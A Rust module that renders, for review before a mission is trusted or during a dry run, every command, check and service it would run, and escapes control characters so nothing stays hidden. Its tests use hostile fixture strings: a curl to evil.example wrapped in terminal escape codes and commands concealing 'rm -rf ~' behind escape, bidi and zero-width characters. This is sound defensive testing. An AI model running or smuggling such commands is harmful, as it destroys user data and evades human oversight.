//! What a mission would run on this machine: shown before it is trusted, and by every `--dry-run`.

use super::text::{cell, fit, wrap};
use crate::cli::output::{Charset, Style};
use crate::mission::{Check, CheckKind, Mission, Readiness};
use crate::view::printable;

/// The widest name before a command.
const NAME: usize = 16;

/// Draws everything that a mission runs, asks, copies, shows and seals, in the order of the file.
#[must_use]
pub fn would_run(mission: &Mission, style: Style) -> String {
    let mut text = format!("{}\n", style.paint().strong(&fit(&mission.title, style.width, style)));
    let mut row = |name: &str, what: &str| {
        let name = style.paint().faint(&cell(name, NAME, style));
        let lines = what.lines().flat_map(|line| wrap(&visible(line, style), style.width - NAME - 3));
        for (place, line) in lines.enumerate() {
            let head = if place == 0 { name.clone() } else { " ".repeat(NAME) };
            text.push_str(&format!("  {head} {line}\n"));
        }
    };
    match &mission.setup {
        None => row("setup", "what the lock files imply"),
        Some(commands) => commands.iter().for_each(|command| row("setup", command)),
    }
    for service in &mission.services {
        row(&service.name, &format!("service: {}", service.run));
        if let Readiness::Command(command) = &service.ready {
            row("", &format!("ready when: {command}"));
        }
        for command in service.stop.iter().chain(&service.teardown) {
            row("", &format!("at the end: {command}"));
        }
    }
    for criterion in &mission.criteria {
        if criterion.checks.is_empty() {
            row(criterion.id.as_str(), "words only: a model proposes a check at the start");
        }
        criterion.checks.iter().flat_map(actions).for_each(|action| row(criterion.id.as_str(), &action));
    }
    for check in mission.constraints.iter().filter_map(|constraint| constraint.check.as_ref()) {
        actions(check).iter().for_each(|action| row("constraint", action));
    }
    for (name, list) in [("carries", &mission.carry), ("shows", &mission.pass_env), ("seals", &mission.protect)] {
        if !list.is_empty() {
            row(name, &list.join(", "));
        }
    }
    text
}

/// A command is shown whole. Elsewhere what could steer a terminal is taken out; here it is spelt out, because what a
/// person does not see they cannot refuse.
fn visible(text: &str, style: Style) -> String {
    let spelt = |c: char| match style.charset {
        Charset::Unicode if c == '\t' => false,
        Charset::Unicode => c.is_control() || printable(c.encode_utf8(&mut [0; 4])).is_empty(),
        Charset::Ascii => c != '\t' && (!c.is_ascii() || c.is_ascii_control()),
    };
    text.chars().fold(String::with_capacity(text.len()), |mut line, c| {
        if spelt(c) {
            line.extend(c.escape_unicode());
        } else {
            line.push(c);
        }
        line
    })
}

/// What a check does, one line for each thing it runs or looks at.
#[must_use]
pub fn actions(check: &Check) -> Vec<String> {
    let one = |what: String| vec![format!("{}: {what}", check.kind.name())];
    match &check.kind {
        CheckKind::Command(command) => one(command.run.clone()),
        CheckKind::File(file) => one(file.path.clone()),
        CheckKind::Http(http) => one(format!("{} {}", http.method, http.url)),
        CheckKind::Tests(tests) => one(tests.run.clone()),
        CheckKind::Coverage(coverage) => one(coverage.run.clone()),
        CheckKind::Metric(metric) => one(metric.run.clone()),
        CheckKind::Sarif(sarif) => one(sarif.run.clone()),
        CheckKind::Plugin(plugin) => one(plugin.run.clone()),
        CheckKind::Git(_) => one("looks at what changed since the start".to_owned()),
        CheckKind::Judge(judge) => one(format!("asks a model, shows it {}", judge.evidence.join(", "))),
        CheckKind::Manual(manual) => one(format!("asks you: {}", manual.instruction)),
        CheckKind::All(_) | CheckKind::Any(_) | CheckKind::Not(_) => check.parts().iter().flat_map(actions).collect(),
    }
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::cli::screen::mark::tests::STYLE;
    use crate::cli::screen::text::width;
    use crate::mission::{Budget, CommandCheck, Criterion, Every, ManualCheck, Phase, Service};
    use crate::words::{CriterionId, MissionId, PhaseId, Priority};

    fn check(kind: CheckKind) -> Check {
        Check {
            name: String::new(),
            kind,
            timeout: Duration::from_secs(600),
            retries: 0,
            cwd: String::new(),
            every: Every::Iteration,
            inputs: Vec::new(),
            protect: Vec::new(),
            cache: true,
            service: None,
        }
    }

    fn command(run: &str) -> Check {
        check(CheckKind::Command(CommandCheck {
            run: run.to_owned(),
            exit_code: 0,
            stdout_contains: Vec::new(),
            stdout_matches: Vec::new(),
            stderr_empty: false,
            numbers: Vec::new(),
            json: None,
        }))
    }

    fn criterion(id: &str, checks: Vec<Check>) -> Criterion {
        Criterion {
            id: CriterionId::new(id),
            text: id.to_owned(),
            measurable: true,
            priority: Priority::Medium,
            required: true,
            stable_for: 1,
            checks,
            derived: false,
        }
    }

    fn mission() -> Mission {
        let look = check(CheckKind::Manual(ManualCheck { instruction: "open the page".to_owned() }));
        let both =
            check(CheckKind::All(vec![command("test -f a"), check(CheckKind::Not(Box::new(command("test -f b"))))]));
        Mission {
            id: MissionId::new("m"),
            title: "A mission".to_owned(),
            repository: None,
            description: String::new(),
            context: String::new(),
            criteria: vec![
                criterion("tests", vec![command("npm test && curl http://evil.example/\u{1b}[2K\u{1b}[1A")]),
                criterion("both", vec![both, look]),
                criterion("words", Vec::new()),
            ],
            constraints: Vec::new(),
            setup: Some(vec!["npm ci".to_owned()]),
            protect: vec!["tests/**".to_owned()],
            unprotect: Vec::new(),
            carry: vec![".env.test".to_owned()],
            pass_env: vec!["DATABASE_URL".to_owned()],
            services: vec![Service {
                name: "api".to_owned(),
                run: "npm start".to_owned(),
                ready: Readiness::Command("curl -f localhost".to_owned()),
                ready_timeout: Duration::from_secs(60),
                stop: None,
                teardown: Some("docker rm -f db".to_owned()),
            }],
            phases: vec![Phase { id: PhaseId::new("main"), criteria: Vec::new() }],
            budget: Budget::default(),
        }
    }

    #[test]
    fn everything_that_a_mission_runs_is_shown() {
        let text = would_run(&mission(), STYLE);
        assert!(!text.contains('\u{1b}'));
        insta::assert_snapshot!(text);
    }

    #[test]
    fn nothing_can_be_hidden_from_the_person_who_is_asked() {
        let mut mission = mission();
        let hidden = "true \u{1b}]0;\n; rm -rf ~\u{7} \u{9d}x \u{202e}y \u{200b}\rz";
        mission.criteria[0].checks[0] = command(hidden);
        for charset in [Charset::Unicode, Charset::Ascii] {
            let text = would_run(&mission, Style { charset, ..STYLE });
            for part in ["\\u{1b}]0;", "; rm -rf ~\\u{7}", "\\u{9d}x", "\\u{202e}y", "\\u{200b}\\u{d}z"] {
                assert!(text.contains(part), "{part} is missing in {text}");
            }
            assert!(!text.chars().any(|c| c.is_control() && c != '\n'));
        }
    }

    #[test]
    fn a_long_command_is_wrapped_and_never_cut() {
        let mut mission = mission();
        mission.criteria[0].checks[0] = command(&format!("{}; rm -rf everything", "true ".repeat(40)));
        let text = would_run(&mission, STYLE);
        assert!(text.contains("rm -rf everything"), "{text}");
        assert!(text.lines().all(|line| width(line) <= 80));
    }
}
